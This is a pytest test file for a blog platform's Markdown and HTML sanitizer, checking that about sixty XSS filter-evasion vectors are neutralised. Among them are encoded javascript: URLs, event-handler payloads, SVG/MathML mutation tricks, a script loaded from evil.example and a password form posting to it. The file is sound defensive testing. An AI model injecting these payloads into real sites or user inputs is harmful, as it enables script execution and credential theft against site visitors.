"""Sanitization against the XSS filter-evasion vectors that apply to Markdown and HTML.

Each vector goes through the real path (cmarkgfm with raw HTML allowed, then nh3); the
output is parsed and checked structurally: only allowed tags and attributes, and only
http/https/mailto or relative URLs, whatever the spelling of the input.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest

from pressline.posts.markdown import markdown_to_html, render_body
from pressline.posts.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, resolve_image, sanitize

KEY = "posts/2026/news/post.md"

VECTORS = [
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;&#x61;vascript:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '![img](x "onerror=alert(1)")',
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "[a](file:///etc/passwd)",
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=" + "".join(f"&#{ord(c):07d}" for c in "javascript:alert('XSS')") + ">",
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="javas\x00cript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<a href=\"//evil.example\" onclick=alert(1) onmouseover='alert(1)'>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="https://evil.example"><input name="password" type="password"><button>Go</button></form>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    '<p style="behavior: url(xss.htc)">x</p>',
    '<base href="javascript:alert(1)//">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<textarea><script>alert(1)</script></textarea>",
    '<a href="#" id="__proto__" class="x" data-x="1" formaction="javascript:alert(1)">x</a>',
    '<input type="image" src="javascript:alert(1)">',
    '<isindex action="javascript:alert(1)" type=image>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<div><img src="x" alt="a" onerror="alert(1)" /></div>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<a href="java&#115;cript:alert(1)">x</a>',
    '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img """><script>alert("XSS")</script>">',
    '<a href="\\\\evil.example/x">x</a>',
]

SAFE_SCHEMES = ("http:", "https:", "mailto:")
URL_ATTRIBUTES = {"href", "src", "cite", "action", "formaction", "background", "data", "poster", "xlink:href"}


class Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel", "loading", "decoding"}
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name in URL_ATTRIBUTES and value is not None:
                url = re.sub(r"[\x00-\x20]", "", html.unescape(value)).lower()
                has_scheme = re.match(r"^[a-z][a-z0-9+.-]*:", url)
                if has_scheme and not url.startswith(SAFE_SCHEMES):
                    self.problems.append(f"{name}={value!r}")
                if url.startswith("//") or url.startswith("\\"):
                    self.problems.append(f"{name}={value!r} (another host without a scheme)")


def inspect(fragment: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(fragment)
    inspector.close()
    return inspector.problems


@pytest.mark.parametrize("vector", VECTORS)
def test_vector_is_neutralised(vector: str) -> None:
    output = render_body(f"Before.\n\n{vector}\n\nAfter.\n", KEY).html
    assert inspect(output) == [], output
    lowered = output.lower()  # text is escaped (&lt;script), so a raw "<script" can only be markup
    for marker in (
        "<script",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<style",
        "<svg",
        "<math",
        "<base",
        "<meta",
        "<link",
    ):
        assert marker not in lowered, (marker, output)
    assert "Before." in output
    if not re.search(r"<style>(?!.*</style>)", vector):  # an unclosed <style> swallows the rest, as in browsers
        assert "After." in output  # the rest of the post survives


def test_the_checker_itself_catches_what_it_must() -> None:
    assert inspect('<a href="javascript:alert(1)">x</a>') == ["href='javascript:alert(1)'"]
    assert inspect("<img src=x onerror=alert(1)>") == ["attribute onerror on <img>"]
    assert inspect("<iframe></iframe>") == ["tag <iframe>"]


def test_scripts_and_styles_lose_their_content_too() -> None:
    output = sanitize("<p>a</p><script>var secret = 1;</script><style>.x{}</style><p>b</p>", KEY)
    assert output == "<p>a</p><p>b</p>"


def test_links_get_rel_noopener_nofollow() -> None:
    output = render_body("[site](https://example.com/) and <mailto:me@example.com>\n", KEY).html
    assert '<a href="https://example.com/" rel="noopener nofollow">site</a>' in output
    assert 'href="mailto:me@example.com"' in output


def test_protocol_relative_links_are_kept_on_https() -> None:
    output = sanitize('<a href="//cdn.example/x">x</a>', KEY)
    assert 'href="https://cdn.example/x"' in output


def test_harmless_html_is_kept() -> None:
    source = 'Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, H<sub>2</sub>O, <abbr title="HyperText">HTML</abbr>.\n'
    output = render_body(source, KEY).html
    assert "<kbd>Ctrl</kbd>" in output and "<sub>2</sub>" in output
    assert '<abbr title="HyperText">HTML</abbr>' in output


def test_only_language_classes_survive_on_code() -> None:
    output = render_body('```python\nx = 1\n```\n\n<code class="evil big">y</code>\n', KEY).html
    assert '<code class="language-python">' in output
    assert "evil" not in output


def test_footnote_ids_survive_but_arbitrary_ids_do_not() -> None:
    output = render_body('Text[^1] <span id="content">x</span>\n\n[^1]: Note.\n', KEY).html
    assert 'id="fnref-1"' in output and 'id="fn-1"' in output and 'href="#fn-1"' in output
    assert 'id="content"' not in output  # would clobber the page's own anchors


# ----------------------------------------------------------------- relative URLs
@pytest.mark.parametrize(
    ("reference", "expected"),
    [
        ("pic.png", "/media/2026/news/pic.png"),
        ("./pic.png", "/media/2026/news/pic.png"),
        ("img/Pic%20One.JPG", "/media/2026/news/img/Pic%20One.JPG"),
        ("../shared/logo.webp", "/media/2026/shared/logo.webp"),
        ("/media/elsewhere.png", "/media/elsewhere.png"),
        ("https://images.example/a.png", "https://images.example/a.png"),
    ],
)
def test_relative_images_resolve_to_their_published_copy(reference: str, expected: str) -> None:
    result = render_body(f"![alt]({reference})\n", KEY)
    assert f'src="{expected}"' in result.html


def test_referenced_images_are_listed_and_svg_is_refused() -> None:
    result = render_body("![a](pic.png) ![b](pic.png) ![c](diagram.svg)\n", KEY)
    assert result.images == ["posts/2026/news/pic.png"]
    assert "diagram.svg" not in result.html
    assert [w.message for w in result.warnings] == [
        "posts/2026/news/diagram.svg is an SVG image, which is not published; use PNG, JPEG, GIF or WebP"
    ]


def test_links_to_other_posts_files_point_at_their_pages() -> None:
    output = render_body("[next](other-post.md#part-2) [up](../intro.md) [anchor](#top)\n", KEY).html
    assert 'href="/posts/other-post/#part-2"' in output
    assert 'href="/posts/intro/"' in output
    assert 'href="#top"' in output


def test_cover_images_resolve_like_body_images() -> None:
    assert resolve_image("cover.png", KEY) == "/media/2026/news/cover.png"
    assert resolve_image("https://cdn.example/c.jpg", KEY) == "https://cdn.example/c.jpg"
    assert resolve_image("../../../../etc/passwd.png", KEY) is None
    assert resolve_image("notes.txt", KEY) is None


def test_raw_markdown_html_is_unsafe_before_sanitizing() -> None:
    # The reason sanitize() exists: cmark passes raw HTML through with UNSAFE on.
    assert "<script>" in markdown_to_html("<script>alert(1)</script>\n")


def test_code_blocks_are_reachable_by_keyboard_whatever_the_author_set() -> None:
    output = render_body('```\nwide line\n```\n\n<pre tabindex="-1" onfocus="x()">raw</pre>\n', KEY).html
    assert output.count('<pre tabindex="0">') == 2
    assert "onfocus" not in output and 'tabindex="-1"' not in output


def test_the_same_html_sanitizes_to_the_same_bytes_in_every_process() -> None:
    """nh3 adds attributes from a hash map seeded per process: two Lambda containers must
    still render one version to identical bytes (the stored rendering, ETags, feeds)."""
    import subprocess
    import sys

    code = (
        "from pressline.posts.sanitize import sanitize;"
        "print(sanitize('<p><img src=\"a.png\" alt=\"x\"></p><pre><code>x</code></pre>', 'posts/a.md'))"
    )
    outputs = {subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
               for _ in range(8)}  # fmt: skip
    image = '<img src="/media/a.png" alt="x" loading="lazy" decoding="async">'
    assert outputs == {f'<p>{image}</p><pre tabindex="0"><code>x</code></pre>\n'}
